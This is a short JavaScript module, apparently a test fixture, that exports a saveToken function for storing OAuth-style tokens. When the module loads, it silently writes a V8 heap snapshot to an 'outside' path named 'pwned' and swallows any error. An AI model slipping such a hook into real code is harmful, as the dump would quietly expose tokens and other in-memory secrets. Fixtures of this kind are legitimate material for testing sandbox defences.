// Writes a snapshot of the memory outside.
const db = require('./db.js');

try {
  require('v8').writeHeapSnapshot('__OUTSIDE__/pwned');
} catch {}

const saveToken = (token, client, user) => {
  token.client = { id: client.clientId };
  token.user = { username: user.username };
  db.tokens.push(token);
  return token;
};

module.exports = { saveToken };
